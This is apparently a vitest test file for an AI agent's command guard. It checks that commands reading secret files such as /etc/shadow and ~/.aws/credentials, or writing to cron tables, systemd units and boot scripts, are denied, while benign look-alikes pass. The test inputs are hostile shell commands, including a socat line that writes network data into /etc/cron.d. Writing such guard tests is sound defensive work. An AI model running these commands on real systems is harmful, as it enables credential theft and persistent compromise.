// Files a program names, whatever the program (issue 27, ADR 0058): a secret file named by a
// program the command table does not know is read, a system place that runs what is written to
// it is written; known readers read every file they name, known programs' output options write.
// And the look-alikes that stay allowed: names and checksums, keys used rather than shown, the
// worker's own dotfiles, install targets on the PATH.
import { describe, expect, it } from "vitest";
import { agentScope } from "../context.js";
import { runGuard } from "../guard.js";
import { compilePolicy } from "../policy.js";

const scope = agentScope({ spec: { tools: ["cmd.run"] } });
const policy = compilePolicy([]);
const decide = (command: string) =>
  runGuard(
    { tool: "cmd.run", args: { command }, step: 1 },
    { policy, scope, history: [], views: { home: "/home/agent", cwd: "/workspace" } },
  );

describe("files a program names", () => {
  it("a secret file named by any program is read: secrets, the reason names no path", () => {
    for (const c of [
      "soelim /etc/shadow",
      "date -f /etc/shadow",
      "mutt -F /etc/shadow",
      "readelf -a @/etc/shadow",
      "lwp-request file:///etc/shadow",
      "apache2 -C 'Include /etc/shadow'",
      "xz -c /etc/shadow | xz -d",
      "frobnicate --input=~/.aws/credentials",
    ]) {
      const d = decide(c);
      expect(d.reason ?? "", c).toMatch(/^secrets: (a program reads a file it names|reads files it names): a secret file \[command\]$/);
    }
  });

  it("a system place that runs what is written to it, named by any program or a known program's output option: persistence", () => {
    for (const c of [
      "tcpdump -ln -i lo -w /etc/cron.d/update -c 1",
      "exiftool -filename=/etc/cron.d/update notes.txt",
      "nmap -oG=/etc/cron.d/update 10.0.0.0/24",
      "sqlite3 /dev/null -cmd '.output /etc/cron.d/update' 'select 1;'",
      "gdb -nx -ex 'dump value /etc/systemd/system/x.service \"x\"' -ex quit",
      "unzip payload.zip -d /etc/cron.d",
      "sort -m -o /etc/cron.d/update notes.txt",
      "openssl enc -in notes.txt -out /etc/profile.d/x.sh",
      "socat -u tcp-connect:10.0.0.1:4444 open:/etc/cron.d/update,creat",
      'python3 -c \'open("/etc/cron.d/update", "w").write("x")\'',
      'gawk \'BEGIN { print "x" > "/etc/rc.local" }\'',
    ])
      expect(decide(c).reason ?? "", c).toMatch(
        /^persistence: (names a file it may write to (a cron table|a systemd unit or generator|a system shell start-up file|a boot script)|a program writes a file it names: system configuration) \[command\]$/,
      );
  });

  it("stays out of the way of names, checksums, keys used, the worker's dotfiles and the PATH", () => {
    for (const c of [
      "ls -la /etc/cron.d/",
      "stat /etc/cron.d/logrotate",
      "systemd-analyze verify /etc/systemd/system/app.service",
      "vim ~/.bashrc",
      "go build -o /usr/local/bin/tool ./cmd/tool",
      "make install PREFIX=/usr/local",
      "cp -a /etc/cron.d/logrotate /workspace/backup/",
      "grep -r cron /etc/cron.d",
      "terraform plan -out=/tmp/plan",
      "nginx -t -c /etc/nginx/nginx.conf",
      "curl -o /workspace/data.json https://example.com/data.json",
      "python3 -c 'print(open(\"/etc/os-release\").read())'",
    ])
      expect(decide(c), c).toEqual({ approved: true });
    // A key used, not shown, is no secrets finding (vaglio's ~/.ssh pattern still denies these: docs/guard.md).
    for (const c of [
      "sha256sum ~/.ssh/id_ed25519",
      "ssh-add ~/.ssh/id_ed25519",
      "ansible-playbook --private-key ~/.ssh/id_rsa -i inventory site.yml",
      "frob --key-file ./certs/server.key",
    ])
      expect(decide(c).reason ?? "", c).not.toMatch(/^secrets:/);
  });
});
